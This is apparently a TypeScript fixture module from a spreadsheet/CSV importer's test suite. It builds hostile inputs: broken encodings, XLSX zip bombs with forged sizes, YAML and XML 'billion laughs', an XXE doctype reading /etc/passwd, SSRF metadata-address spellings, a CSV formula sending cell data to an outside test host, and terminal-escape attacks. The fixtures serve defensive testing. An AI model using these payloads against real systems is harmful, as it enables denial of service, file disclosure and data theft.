/**
 * Generators of hostile input, one per class (issue 13 and reliability.md): broken encodings,
 * zip bombs, huge cells and lines, oversize configs. Everything is built in memory or streamed to
 * a temp file from a seed, so the suite needs no committed binaries and every case is reproducible.
 */
import * as zlibModule from "node:zlib";
import { deflateRawSync, constants as zlibConstants } from "node:zlib";
import iconv from "iconv-lite";

// ---------------------------------------------------------------------------------------------
// Encodings

export const CATALOG_HEADER = "handle,title,sku,price\n";

/** The title of row `i`: accents a Latin-1 or a mis-decode would mangle. */
export const latinTitle = (i: number): string => `Café Crème Niño ${i}`;
export const chineseTitle = (i: number): string => `蓝色衬衫朱镕基牌 ${i}`;

function catalogText(rows: number, title: (i: number) => string): string {
  let text = CATALOG_HEADER;
  for (let i = 1; i <= rows; i++) text += `p-${i},${title(i)},SKU-${i},12.50\n`;
  return text;
}

/** Where a fault goes: the first data row, inside the 64 KiB detection window, or far after it. */
export type Place = "start" | "middle" | "end";
export const PLACES: readonly Place[] = ["start", "middle", "end"];
/** 3,000 rows of about 40 bytes: row 800 is inside the first 64 KiB, row 2,990 well after it. */
export const FAULT_ROWS = 3000;
export const faultRow = (place: Place): number => (place === "start" ? 1 : place === "middle" ? 800 : 2990);

/** Byte offset of the first byte of data row `i`'s title in `bytes` (rows are "p-i,"). */
function titleOffset(bytes: Buffer, i: number): number {
  const at = bytes.indexOf(Buffer.from(`\np-${i},`));
  return at + `\np-${i},`.length;
}

/** A UTF-8 catalog in which one "é" of row `place` is a lone Latin-1 byte 0xE9. */
export function utf8WithStrayByte(place: Place): Buffer {
  const bytes = Buffer.from(catalogText(FAULT_ROWS, latinTitle), "utf8");
  const at = titleOffset(bytes, faultRow(place)) + 3; // "Caf" then é = C3 A9
  return Buffer.concat([bytes.subarray(0, at), Buffer.from([0xe9]), bytes.subarray(at + 2)]);
}

/** A GBK catalog in which one byte of row `place`'s title is 0xFF (never valid in GB18030). */
export function gbkWithBadByte(place: Place): Buffer {
  const bytes = Buffer.from(iconv.encode(catalogText(FAULT_ROWS, chineseTitle), "gbk"));
  const at = titleOffset(bytes, faultRow(place)) + 2; // second character's lead byte
  bytes[at] = 0xff;
  return bytes;
}

/** A Windows-1252 (Latin-1) catalog: neither UTF-8 nor GB18030. */
export function latin1Catalog(rows = 20): Buffer {
  return iconv.encode(catalogText(rows, latinTitle), "windows-1252");
}

/** UTF-16LE without a BOM (some tools save Excel's "Unicode text" so). */
export function utf16NoBom(rows = 20, encoding: "utf-16le" | "utf-16be" = "utf-16le"): Buffer {
  const le = iconv.encode(catalogText(rows, chineseTitle), "utf-16le");
  if (encoding === "utf-16le") return le;
  const be = Buffer.from(le);
  be.swap16();
  return be;
}

/** UTF-16LE cut after an odd number of bytes. */
export function utf16OddLength(rows = 20): Buffer {
  const b = utf16NoBom(rows);
  return Buffer.concat([b, Buffer.from([0x41])]);
}

/** Valid UTF-8 that carries U+FFFD: text damaged before the file was written. */
export function utf8WithReplacementChar(place: Place): Buffer {
  const text = catalogText(FAULT_ROWS, (i) => (i === faultRow(place) ? "Caf\uFFFD Cr\uFFFDme" : latinTitle(i)));
  return Buffer.from(text, "utf8");
}

/** GB18030 for the first 64 KiB, then UTF-8 (two exports pasted together). */
export function gbThenUtf8(): Buffer {
  const head = iconv.encode(catalogText(2000, chineseTitle), "gb18030");
  let tail = "";
  for (let i = 2001; i <= 2400; i++) tail += `p-${i},${latinTitle(i)},SKU-${i},12.50\n`;
  return Buffer.concat([head, Buffer.from(tail, "utf8")]);
}

/** A clean GB18030 catalog (the control: read exactly). */
export function gb18030Catalog(rows = FAULT_ROWS): Buffer {
  return iconv.encode(catalogText(rows, chineseTitle), "gb18030");
}

// ---------------------------------------------------------------------------------------------
// SSRF

/** Every spelling of a metadata address an attacker may put in a URL (URL host form). */
export const METADATA_LITERALS: readonly string[] = [
  "169.254.169.254",
  "169.254.170.2",
  "169.254.0.23",
  "100.100.100.200",
  "192.0.0.192",
  "168.63.129.16",
  "[fd00:ec2::254]",
  "[::ffff:a9fe:a9fe]",
  "[::a9fe:a9fe]",
  "[::ffff:0:a9fe:a9fe]",
  "[64:ff9b::a9fe:a9fe]",
  "[2002:a9fe:a9fe::]",
  "[::ffff:6464:64c8]",
  "[fe80::1]",
  "2852039166", // 169.254.169.254 as one decimal number
  "0xa9fea9fe",
  "0251.0376.0251.0376",
  "169.254.43518",
];

// ---------------------------------------------------------------------------------------------
// XLSX zip bombs and hostile workbooks: a minimal zip writer (APPNOTE 4.3), so sizes and ratios
// are exactly what each case needs, and the directory can lie.

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(buf: Uint8Array, crc = 0): number {
  // Native when Node has it (20.15+): a 1 GB bomb's checksum in a second, not a minute.
  const native = (zlibModule as { crc32?: (b: Uint8Array, c: number) => number }).crc32;
  if (native) return native(buf, crc);
  let c = crc ^ 0xffffffff;
  for (let i = 0; i < buf.length; i++) c = (CRC_TABLE[(c ^ (buf[i] as number)) & 0xff] as number) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

export interface ZipPart {
  name: string;
  /** The expanded content, or a repeated unit (for bombs: never held whole in memory). */
  data: string | Buffer | { head: string; unit: string; times: number; tail: string };
  /** Store the entry uncompressed. */
  stored?: boolean;
  /** Claim this expanded size in the headers instead of the real one (a forged archive). */
  claimUncompressed?: number;
}

function deflatePart(part: ZipPart): { compressed: Buffer; size: number; crc: number } {
  const d = part.data;
  if (typeof d === "string" || Buffer.isBuffer(d)) {
    const raw = typeof d === "string" ? Buffer.from(d, "utf8") : d;
    return { compressed: part.stored ? raw : deflateRawSync(raw, { level: 9 }), size: raw.length, crc: crc32(raw) };
  }
  // A bomb: raw deflate streams compressed on their own and sync-flushed (no final bit) can be
  // concatenated, since no back-reference crosses them; so one compressed 1 MiB block repeated
  // makes a gigabyte without ever holding it.
  const unit = Buffer.from(d.unit, "utf8");
  const perBlock = Math.max(1, Math.floor((1024 * 1024) / unit.length));
  const block = Buffer.concat(Array(perBlock).fill(unit));
  const sync = (b: Buffer): Buffer => deflateRawSync(b, { level: 9, finishFlush: zlibConstants.Z_SYNC_FLUSH });
  const packedBlock = sync(block);
  const blockCrcStep = (crc: number) => crc32(block, crc);
  const head = Buffer.from(d.head, "utf8");
  const tail = Buffer.from(d.tail, "utf8");
  const outs: Buffer[] = [sync(head)];
  let crc = crc32(head);
  let size = head.length;
  let left = d.times;
  while (left >= perBlock) {
    outs.push(packedBlock);
    crc = blockCrcStep(crc);
    size += block.length;
    left -= perBlock;
  }
  const rest = block.subarray(0, left * unit.length);
  outs.push(sync(rest), deflateRawSync(tail, { level: 9 }));
  crc = crc32(tail, crc32(rest, crc));
  size += rest.length + tail.length;
  return { compressed: Buffer.concat(outs), size, crc };
}

export function buildZip(parts: readonly ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const { compressed, size, crc } = deflatePart(part);
    const name = Buffer.from(part.name, "utf8");
    const usize = part.claimUncompressed ?? size;
    const method = part.stored ? 0 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(Math.min(usize, 0xffffffff), 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(Math.min(usize, 0xffffffff), 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += 30 + name.length + compressed.length;
  }
  const dir = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(parts.length, 8);
  eocd.writeUInt16LE(parts.length, 10);
  eocd.writeUInt32LE(dir.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, eocd]);
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
const SHEET_HEAD = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`;
const SHEET_TAIL = "</sheetData></worksheet>";
const EMPTY_SST = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>`;

const inline = (ref: string, text: string): string => `<c${ref ? ` r="${ref}"` : ""} t="inlineStr"><is><t>${text}</t></is></c>`;

/** A workbook whose sheet is `sheet` (the XML inside <sheetData>), or a repeated unit for bombs. */
export function workbook(sheet: ZipPart["data"], extra: Partial<ZipPart> = {}): Buffer {
  const data =
    typeof sheet === "string" || Buffer.isBuffer(sheet)
      ? `${SHEET_HEAD}${sheet}${SHEET_TAIL}`
      : { head: `${SHEET_HEAD}${sheet.head}`, unit: sheet.unit, times: sheet.times, tail: `${sheet.tail}${SHEET_TAIL}` };
  return buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
    { name: "xl/sharedStrings.xml", data: EMPTY_SST },
    { name: "xl/worksheets/sheet1.xml", data, ...extra },
  ]);
}

const HEADER_ROW = `<row r="1">${inline("A1", "handle")}${inline("B1", "title")}${inline("C1", "sku")}${inline("D1", "price")}</row>`;

/** A zip bomb: a sheet of `mb` MB of identical rows (ratio ~1000). */
export function xlsxBomb(mb: number): Buffer {
  const unit = `<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c></row>`;
  return workbook({ head: HEADER_ROW, unit, times: Math.ceil((mb * 1024 * 1024) / unit.length), tail: "" });
}

/** One cell of `mb` MB, as a bomb (one run of "A"). */
export function xlsxHugeCell(mb: number): Buffer {
  return workbook({
    head: `${HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is><t>`,
    unit: "A".repeat(1024),
    times: mb * 1024,
    tail: "</t></is></c></row>",
  });
}

/** A cell of `chars` pseudo-random letters: compresses poorly, so only the streaming cap stops it. */
export function xlsxLongCell(chars: number, seed = 7): Buffer {
  let x = seed;
  const letters = Buffer.alloc(chars);
  for (let i = 0; i < chars; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    letters[i] = 97 + (x % 26);
  }
  return workbook(`${HEADER_ROW}<row r="2">${inline("A2", letters.toString("latin1"))}</row>`);
}

/** A forged archive: the sheet claims 10 kB but expands to `mb` MB. */
export function xlsxLyingSizes(mb: number): Buffer {
  const unit = `<row><c t="inlineStr"><is><t>p</t></is></c></row>`;
  return workbook({ head: HEADER_ROW, unit, times: Math.ceil((mb * 1024 * 1024) / unit.length), tail: "" }, { claimUncompressed: 10_000 });
}

/** Cells and rows without r= attributes (valid OOXML; some generators write it). */
export function xlsxWithoutRefs(rows: readonly string[][]): Buffer {
  const xml = rows.map((cells) => `<row>${cells.map((c) => (c === "" ? "<c/>" : inline("", c))).join("")}</row>`).join("");
  return workbook(xml);
}

// ---------------------------------------------------------------------------------------------
// Oversize lines

/** A CSV whose second record is `mb` MB long: no line break at all, or an unclosed quote. */
export function longLine(mb: number, quoted: boolean): Buffer {
  const head = Buffer.from(`handle,title,sku,price\np-1,${quoted ? '"' : ""}`);
  return Buffer.concat([head, Buffer.alloc(mb * 1024 * 1024, 0x78)]);
}

// ---------------------------------------------------------------------------------------------
// Config files

/** A syntactically valid config of about `mb` MB (one long attribute synonym list). */
export function hugeConfig(mb: number): string {
  const head = "stores:\n  shop:\n    platform: local\nattributes:\n  colour:\n    values:\n      red: [";
  const item = '"rouge-xxxxxxxxxxxxxxxx", ';
  return `${head}${item.repeat(Math.ceil((mb * 1024 * 1024) / item.length))}"r"]\n`;
}

// ---------------------------------------------------------------------------------------------
// Classes handled before issue 13, kept in the suite so they stay handled

/** Header names that would reach Object.prototype if rows were plain objects keyed by them. */
export const PROTOTYPE_HEADERS = ["__proto__", "constructor", "prototype", "Constructor "];

/** A YAML "billion laughs": nine levels of aliases, each ten times the one below. */
export function yamlAliasBomb(): string {
  const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i <= 9; i++) {
    const refs = Array.from({ length: 10 }, () => `*a${i - 1}`).join(",");
    lines.push(`a${i}: &a${i} [${refs}]`);
  }
  return `${lines.join("\n")}\nstores:\n  shop:\n    platform: local\n`;
}

/** Cells a spreadsheet program would run as formulas (OWASP CSV injection triggers). */
export const FORMULA_TITLES = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"];

// ---------------------------------------------------------------------------------------------
// Unusual paths, wide rows, terminal injection (helper H)

/** A CSV whose first row has `columns` cells: a wrong delimiter or a hostile file, never a header. */
export function wideHeaderCsv(columns: number): string {
  const cells: string[] = [];
  for (let i = 0; i < columns; i++) cells.push(`c${i}`);
  return `${cells.join(",")}\n${cells.map(() => "x").join(",")}\n`;
}

/**
 * Cell text that drives a terminal: clear the screen, set the window title (OSC 0, ended by BEL), an
 * OSC 8 hyperlink, red text, a backspace, a CR that overwrites the line, and the bidi override of the
 * "Trojan Source" attacks (U+202E) and an isolate (U+2066).
 */
export const TERMINAL_ATTACKS: readonly string[] = [
  "\x1b[2J\x1b[H",
  "\x1b]0;pwned\x07",
  "\x1b]8;;http://evil.test/\x1b\\click\x1b]8;;\x1b\\",
  "\x1b[31mred\x1b[0m",
  "ab\bc",
  "fake\rerror: all good",
  "txt.\u202eexe",
  "\u2066isolate\u2069",
  "\x9b31m",
];

/** Every character that must not reach a terminal raw. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
export const TERMINAL_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

// ---------------------------------------------------------------------------------------------
// XLSX parts an attacker writes by hand: DTDs, formulas, styles, dimensions (helper H)

const STYLES_WITH_DATE = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>`;
const WORKBOOK_RELS_STYLES = WORKBOOK_RELS.replace(
  "</Relationships>",
  `<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`,
);

/**
 * A workbook written part by part: `sheetXml` inside <sheetData>, an optional DTD before the sheet's
 * root or the shared strings' (entities), shared strings, a `<dimension>`, and styles where
 * style 1 is the date format 14 (m/d/yyyy).
 */
export function workbookParts(opts: {
  sheetXml: string;
  doctype?: string;
  sst?: string[];
  sstDoctype?: string;
  dimension?: string;
}): Buffer {
  const dim = opts.dimension ? `<dimension ref="${opts.dimension}"/>` : "";
  const sheet = `<?xml version="1.0" encoding="UTF-8"?>\n${opts.doctype ?? ""}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${dim}<sheetData>${opts.sheetXml}</sheetData></worksheet>`;
  const strings = opts.sst ?? [];
  const sst = `<?xml version="1.0" encoding="UTF-8"?>\n${opts.sstDoctype ?? ""}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((s) => `<si><t>${s}</t></si>`).join("")}</sst>`;
  return buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS_STYLES },
    { name: "xl/styles.xml", data: STYLES_WITH_DATE },
    { name: "xl/sharedStrings.xml", data: sst },
    { name: "xl/worksheets/sheet1.xml", data: sheet },
  ]);
}

/** A catalog row 2 of four cells, each given as raw `<c>` XML (use `inlineCell` for text). */
export function catalogRowXml(cells: readonly [string, string, string, string]): string {
  return `${HEADER_ROW}<row r="2">${cells.join("")}</row>`;
}
export const inlineCell = inline;

/** Billion laughs: nine levels of ten, 10^9 "lol"s from a few hundred bytes. */
export const LAUGHS_DOCTYPE = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i === 0 ? "" : i + 1};`.repeat(10)}">`).join("")}]>\n`;
/** An external entity (XXE) that would read a local file. */
export const XXE_DOCTYPE = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n`;

/**
 * A workbook of `sheets` tiny sheets in Excel's part order (every sheet before sharedStrings.xml,
 * so a streaming reader must hold them until the strings arrive); `wanted` is the name of the one
 * with a catalog (the first unless given), the others hold one cell each.
 */
export function xlsxManySheets(sheets: number, wantedIndex = 0, stringsFirst = false): Buffer {
  const names = Array.from({ length: sheets }, (_, i) => (i === wantedIndex ? "Catalog" : `S${i + 1}`));
  const workbookXml = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${names.map((n, i) => `<sheet name="${n}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join("")}</sheets></workbook>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${names.map((_, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join("")}<Relationship Id="rId${sheets + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
  const catalog = `${HEADER_ROW}<row r="2">${inline("A2", "p-1")}${inline("B2", "Shirt")}${inline("C2", "SKU-1")}${inline("D2", "12.50")}</row>`;
  const strings: ZipPart = { name: "xl/sharedStrings.xml", data: EMPTY_SST };
  const parts: ZipPart[] = [
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: workbookXml },
    { name: "xl/_rels/workbook.xml.rels", data: rels },
    ...(stringsFirst ? [strings] : []),
    ...names.map((_, i) => ({
      name: `xl/worksheets/sheet${i + 1}.xml`,
      data: `${SHEET_HEAD}${i === wantedIndex ? catalog : `<row r="1">${inline("A1", `note ${i}`)}</row>`}${SHEET_TAIL}`,
    })),
    ...(stringsFirst ? [] : [strings]),
  ];
  return buildZip(parts);
}

// ---------------------------------------------------------------------------------------------
// Round 3 (helper H): workbooks real tools write, each part given as XML text

const PACKAGE_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships";
export const TRANSITIONAL = {
  main: "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
  rels: "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
};
/** ISO 29500 Strict, what Excel's "Strict Open XML Spreadsheet" writes. */
export const STRICT = {
  main: "http://purl.oclc.org/ooxml/spreadsheetml/main",
  rels: "http://purl.oclc.org/ooxml/officeDocument/relationships",
};

export interface SheetSpec {
  name: string;
  state?: "hidden" | "veryHidden";
  /** A chart sheet: no cells, stored under xl/chartsheets/. */
  chart?: boolean;
  /** The XML inside <sheetData> (or the whole part when it starts with "<?xml"). */
  xml?: string;
}

/**
 * A workbook of several sheets in the given namespaces, with shared strings `sst` (each item's
 * XML inside <si>), written the way Excel orders its parts (sheets before the shared strings).
 */
export function workbookOf(sheets: readonly SheetSpec[], opts: { ns?: typeof TRANSITIONAL; sst?: readonly string[] } = {}): Buffer {
  const ns = opts.ns ?? TRANSITIONAL;
  const target = (s: SheetSpec, i: number) => (s.chart ? `chartsheets/sheet${i + 1}.xml` : `worksheets/sheet${i + 1}.xml`);
  const workbookXml = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="${ns.main}" xmlns:r="${ns.rels}"><sheets>${sheets
    .map((s, i) => `<sheet name="${s.name}" sheetId="${i + 1}"${s.state ? ` state="${s.state}"` : ""} r:id="rId${i + 1}"/>`)
    .join("")}</sheets></workbook>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${PACKAGE_RELS_NS}">${sheets
    .map((s, i) => `<Relationship Id="rId${i + 1}" Type="${ns.rels}/${s.chart ? "chartsheet" : "worksheet"}" Target="${target(s, i)}"/>`)
    .join("")}<Relationship Id="rIdS" Type="${ns.rels}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
  const rootRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${PACKAGE_RELS_NS}"><Relationship Id="rId1" Type="${ns.rels}/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
  const strings = opts.sst ?? [];
  const part = (s: SheetSpec): string => {
    const xml = s.xml ?? "";
    if (xml.startsWith("<?xml")) return xml;
    if (s.chart)
      return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<chartsheet xmlns="${ns.main}"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>`;
    return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${ns.main}"><sheetData>${xml}</sheetData></worksheet>`;
  };
  return buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: rootRels },
    { name: "xl/workbook.xml", data: workbookXml },
    { name: "xl/_rels/workbook.xml.rels", data: rels },
    ...sheets.map((s, i) => ({ name: `xl/${target(s, i)}`, data: part(s) })),
    {
      name: "xl/sharedStrings.xml",
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="${ns.main}" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((s) => `<si>${s}</si>`).join("")}</sst>`,
    },
  ]);
}

/** The catalog header row (handle, title, sku, price) and row 2 from four raw `<c>` cells. */
export function catalogSheet(cells: readonly [string, string, string, string]): string {
  return catalogRowXml(cells);
}

/** A zip archive of the given files, as a stranger's tool would make it (stored names, deflated data). */
export function zipOf(files: Record<string, string>): Buffer {
  return buildZip(Object.entries(files).map(([name, data]) => ({ name, data })));
}

/**
 * The start of an OLE compound file (CFB) whose directory names the given streams: what Excel
 * writes for a password-protected .xlsx ("EncryptionInfo", "EncryptedPackage") and what a legacy
 * .xls is ("Workbook"). Only the header and the first directory sector are real: enough for a
 * reader to say what the file is, and nothing to decrypt.
 */
export function cfbWithStreams(streams: readonly string[]): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from("d0cf11e0a1b11ae1", "hex").copy(header, 0);
  header.writeUInt16LE(0x003e, 24); // minor version
  header.writeUInt16LE(0x0003, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  header.writeUInt32LE(1, 44); // one FAT sector
  header.writeUInt32LE(1, 48); // the directory starts at sector 1
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(0xfffffffe, 60); // no mini FAT
  header.writeUInt32LE(0xfffffffe, 68); // no DIFAT sectors
  header.writeUInt32LE(0, 76); // FAT at sector 0
  for (let i = 1; i < 109; i++) header.writeUInt32LE(0xffffffff, 76 + i * 4);
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0 is the FAT
  fat.writeUInt32LE(0xfffffffe, 4); // sector 1: the directory, one sector
  const dir = Buffer.alloc(512);
  const names = ["Root Entry", ...streams].slice(0, 4);
  names.forEach((name, i) => {
    const at = i * 128;
    const utf16 = Buffer.from(`${name}\0`, "utf16le");
    utf16.copy(dir, at);
    dir.writeUInt16LE(utf16.length, at + 64);
    dir.writeUInt8(i === 0 ? 5 : 2, at + 66); // root storage, then streams
    dir.writeUInt8(1, at + 67); // black
    const none = 0xffffffff;
    dir.writeUInt32LE(none, at + 68); // left sibling
    dir.writeUInt32LE(i > 0 && i < names.length - 1 ? i + 1 : none, at + 72); // right sibling: the next stream
    dir.writeUInt32LE(i === 0 && names.length > 1 ? 1 : none, at + 76); // the root's child: the first stream
    dir.writeUInt32LE(0xfffffffe, at + 116); // empty: no sectors
  });
  return Buffer.concat([header, fat, dir]);
}
